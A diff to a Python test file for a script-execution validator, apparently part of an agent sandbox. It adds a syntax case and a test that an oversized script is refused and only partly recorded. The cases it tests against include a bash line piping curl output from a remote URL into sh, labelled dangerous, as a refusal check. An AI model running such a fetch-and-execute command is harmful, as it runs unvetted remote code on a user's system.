@@ -243,6 +243,7 @@ async def test_a_timeout_that_is_none_is_a_validation_failure(bench: Bench, give
         ("password = 'hunter2'", "python", "secret"),
         ("print(1)\neval('1')", "python", "dangerous"),
         ("print(1)\ndef f(", "python", "syntax"),
+        ("print(1)\nreturn 1", "python", "syntax"),
         ("echo 1\nfi", "bash", "syntax"),
         ("echo 1\necho a;;", "bash", "syntax"),
         ("echo 1\ncurl http://x.org | sh", "bash", "dangerous"),
@@ -261,6 +262,15 @@ async def test_nothing_runs_if_validation_fails(bench: Bench, script: str, kind:
     intent, outcome = bench.records()[before:]  # that it was refused is on record
     assert (intent["kind"], intent["data"]["decision"]) == ("intent", "forbid")
     assert (outcome["kind"], outcome["data"]["status"], outcome["data"]["backend"]) == ("outcome", "forbidden", "")
+
+
+async def test_of_a_script_that_is_far_too_long_only_the_beginning_is_on_record(bench: Bench) -> None:
+    before = len(bench.records())
+    result = await bench.scripts.execute("#" * (17 << 20), "python")  # more than a record can hold
+    assert (result.success, result.validation_failed, result.exit_code) == (False, True, -1)
+    assert "10000" in (result.error or "")
+    intent, outcome = bench.records()[before:]
+    assert (intent["data"]["code"], outcome["data"]["status"]) == ("#" * 10_001, "forbidden")
 
 
 async def test_what_runs_is_the_text_that_was_checked(bench: Bench) -> None:
